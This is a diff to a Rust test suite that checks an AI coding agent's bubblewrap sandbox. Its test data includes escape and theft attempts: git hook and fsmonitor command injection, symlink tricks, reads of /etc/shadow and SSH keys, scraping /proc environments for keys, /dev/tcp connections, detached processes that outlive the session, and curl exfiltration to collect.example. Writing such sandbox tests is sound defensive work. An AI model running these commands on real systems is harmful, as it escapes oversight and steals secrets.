@@ -6,6 +6,11 @@ mod support;
 
 use std::{
     collections::{BTreeMap, BTreeSet},
+    net::{TcpListener, UdpSocket},
+    os::{
+        linux::net::SocketAddrExt,
+        unix::net::{SocketAddr, UnixListener},
+    },
     path::Path,
     time::Duration,
 };
@@ -79,6 +84,59 @@ async fn attack(
     }
 }
 
+/// Sockets of the machine that nothing in a sandbox can reach.
+struct Outside {
+    /// By path, and by name.
+    local: [UnixListener; 2],
+    tcp: TcpListener,
+    udp: UdpSocket,
+    directory: String,
+}
+
+impl Outside {
+    fn listen(setup: &Setup) -> Self {
+        let directory = setup.path().join("victim").display().to_string();
+        let path = UnixListener::bind(format!("{directory}/socket")).unwrap();
+        let name = SocketAddr::from_abstract_name(&directory).unwrap();
+        let local = [path, UnixListener::bind_addr(&name).unwrap()];
+        let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
+        let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
+        for listener in &local {
+            listener.set_nonblocking(true).unwrap();
+        }
+        tcp.set_nonblocking(true).unwrap();
+        udp.set_nonblocking(true).unwrap();
+        Self { local, tcp, udp, directory }
+    }
+
+    /// A script that tries all sockets.
+    fn connect_script(&self) -> String {
+        let (tcp, udp) =
+            (self.tcp.local_addr().unwrap().port(), self.udp.local_addr().unwrap().port());
+        let directory = &self.directory;
+        let local = |address: &str| {
+            format!(
+                "python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('{address}')\" && echo REACHED"
+            )
+        };
+        let remote =
+            format!("bash -c \"echo x > /dev/tcp/$host/{tcp}; echo x > /dev/udp/$host/{udp}\"");
+        [
+            local(&format!("{directory}/socket")),
+            local(&format!("\\0{directory}")),
+            format!("for host in 127.0.0.1 192.0.2.1; do {remote}; done"),
+        ]
+        .join("; ")
+    }
+
+    fn assert_unreached(&self) {
+        for listener in &self.local {
+            assert!(listener.accept().is_err());
+        }
+        assert!(self.tcp.accept().is_err() && self.udp.recv(&mut [0; 9]).is_err());
+    }
+}
+
 #[tokio::test]
 async fn no_escape_changes_or_reads_anything_outside() {
     if !has_bubblewrap() {
@@ -90,7 +148,8 @@ async fn no_escape_changes_or_reads_anything_outside() {
     let port = server.address.rsplit(':').next().unwrap().to_owned();
     let before = files(setup.path());
     let mark = format!("{root}/victim/mark");
-    let scripts = [
+    let outside = Outside::listen(&setup);
+    let scripts: [String; 40] = [
         // Programs that the copy's configuration names.
         format!("git config core.fsmonitor 'touch {mark}; cat {root}/victim/secret'; git status"),
         format!("git config core.hooksPath /work/hooks; mkdir -p hooks; printf '#!/bin/sh\\ntouch {mark}' > hooks/post-checkout; chmod +x hooks/post-checkout; cp hooks/post-checkout .git/hooks/pre-commit"),
@@ -102,7 +161,13 @@ async fn no_escape_changes_or_reads_anything_outside() {
         format!("git config remote.origin.url 'ext::touch {mark}'; git config url.ext::touch.insteadOf /"),
         format!("printf '{root}/victim' > .git/objects/info/alternates2; printf 'gitdir: {root}/victim' > sub.git"),
         "git config --unset-all filter.x.clean; rm -f .gitattributes; mkdir nested; cd nested; git init -q; git config core.fsmonitor 'touch /tmp/x'; echo n > n; git add n; git -c user.name=a -c user.email=a@b commit -qm n".to_owned(),
+        format!("git config gpg.program 'touch {mark}'; git config commit.gpgSign true; git config diff.x.textconv 'touch {mark}'; git config diff.x.command 'touch {mark}'; git config merge.x.driver 'touch {mark}'; echo '* diff=x merge=x' > .gitattributes; echo x > compared"),
+        format!("rm .gitattributes; printf '[core]\\n\\tfsmonitor = touch {mark}\\n' > own; git config include.path ../own; git config extensions.worktreeConfig true; cp own .git/config.worktree"),
+        format!("git config --unset include.path; git config --unset extensions.worktreeConfig; rm .git/config.worktree; mkdir pointer; echo 'gitdir: {root}/origin/.git' > pointer/.git; echo x > pointer/x; git -C pointer commit -qam x && echo REACHED"),
+        format!("rm -rf pointer; git init -q --bare bare; git -C bare config core.fsmonitor 'touch {mark}'; git -C bare config core.worktree {root}/victim; printf '#!/bin/sh\\ntouch {mark}' > bare/hooks/post-index-change; chmod +x bare/hooks/post-index-change"),
         // Links.
+        format!("rm -rf bare; ln -s {root}/victim turned; git add -A; git -c commit.gpgSign=false -c user.name=a -c user.email=a@b commit -qm link; rm turned; mkdir turned; echo changed > turned/secret"),
+        format!("ln {root}/victim/secret hard && echo REACHED; ln /usr/bin/git hard && echo REACHED; ln -s /proc/1/root{root}/victim/secret rooted; cat rooted /proc/self/root{root}/victim/secret"),
         format!("ln -s {root}/victim link; ln -s {root}/victim/secret file; echo changed > link/secret; cat file"),
         format!("rm -rf /home/agent/x; ln -sf {root}/victim/secret /home/agent/openvibe.patch; ln -sf {root}/victim /tmp/out"),
         // Files of the machine.
@@ -112,7 +177,9 @@ async fn no_escape_changes_or_reads_anything_outside() {
         format!("rm -rf {root}/data/mirrors; touch {root}/data/mirrors/api/HEAD; echo x >> {root}/data/mirrors/api/config"),
         "touch /usr/mark /etc/mark /mark /dev/mark /run/mark; cat /etc/shadow /root/.ssh/id_rsa".to_owned(),
         "ls /proc/1/root/home; cat /proc/*/environ | tr '\\0' '\\n' | grep -i ovr_; ls /sys; mount".to_owned(),
+        format!("for fd in /proc/[0-9]*/fd/*; do readlink $fd; done | grep -F {root}/ && echo REACHED; cat /proc/[0-9]*/cwd/../victim/secret; echo -1000 > /proc/self/oom_score_adj && echo WROTE"),
         "kill -9 -1; kill -9 1; kill -9 $PPID".to_owned(),
+        format!("(setsid sh -c 'while :; do touch {mark}; done' > /dev/null 2>&1 &); (trap '' HUP INT TERM; sleep 300 > /dev/null 2>&1 &)"),
         // The first process can be traced, so it has the filter of system calls, too.
         "grep -q 'Seccomp:.2' /proc/1/status || echo REACHED".to_owned(),
         // Namespaces, devices, and kernel interfaces.
@@ -126,6 +193,7 @@ async fn no_escape_changes_or_reads_anything_outside() {
         "command -v curl >/dev/null || exit 0; curl -sm5 -x http://127.0.0.1:3128 https://example.com/ && echo REACHED; curl -sm5 http://127.0.0.1:3128/openvibe/v1/messages -d x | grep -q reachable || echo REACHED".to_owned(),
         "command -v curl >/dev/null || exit 0; curl -sm5 -x http://127.0.0.1:3128 https://127.0.0.1/ && echo REACHED; curl -sm5 --path-as-is http://127.0.0.1:3128/openvibe/v1/../v2 | grep -q reachable || echo REACHED".to_owned(),
         "for kind in '40, 1' '38, 5' '17, 3'; do python3 -c \"import socket; socket.socket($kind)\" && echo REACHED; done".to_owned(),
+        outside.connect_script(),
         "find / -type s 2>/dev/null | grep -v /run/openvibe/door && echo SOCKET".to_owned(),
         "git config include.path /etc/passwd; rm -rf .git/objects".to_owned(),
     ];
@@ -153,6 +221,42 @@ async fn no_escape_changes_or_reads_anything_outside() {
             assert!(!content.contains(word), "{script}: {word}: {content}");
         }
     }
+    outside.assert_unreached();
+}
+
+#[tokio::test]
+async fn no_byte_of_the_builtin_agent_leaves_except_to_the_model() {
+    if !has_bubblewrap() {
+        return;
+    }
+    let mut server = Server::start().await;
+    let setup = Setup::new(&server, "[repository.api]");
+    std::fs::create_dir(setup.path().join("victim")).unwrap();
+    let outside = Outside::listen(&setup);
+    let _running = setup.run();
+    let command = [
+        outside.connect_script().as_str(),
+        "curl -sm5 -d x -x http://127.0.0.1:3128 https://collect.example/",
+        "curl -sm5 -d '{}' http://127.0.0.1:3128/scripted/v1/messages",
+    ]
+    .join("; ");
+    let arguments = json!({"command": command}).to_string();
+    let call = json!({"id": "c1", "type": "function", "function": {"name": "run", "arguments": arguments}});
+    server.answer_model(&[
+        json!({"choices": [{"message": {"role": "assistant", "tool_calls": [call]}, "finish_reason": "tool_calls"}]}),
+        json!({"choices": [{"message": {"role": "assistant", "content": "Sent."}, "finish_reason": "stop"}]}),
+    ]);
+    let mut connection = server.connect(&json!({})).await;
+    connection.open(1, "builtin").await;
+    connection.prompt(2, "task_1", "Send it").await;
+    let events = connection.until("done").await;
+    assert_eq!(support::text_of(&events), "Sent.");
+    outside.assert_unreached();
+    let requests = server.model_requests();
+    let result = requests[1].2["messages"][3]["content"].as_str().unwrap();
+    assert!(!result.contains("REACHED\n"), "{result}");
+    let paths: Vec<&str> = requests.iter().map(|(path, _, _)| &**path).collect();
+    assert_eq!(paths, ["/v1/chat/completions"; 2]);
 }
 
 /// Commands of injected texts: to push, and to tell keys. `ORIGIN` is the repository, and `DATA` the runner's directory.
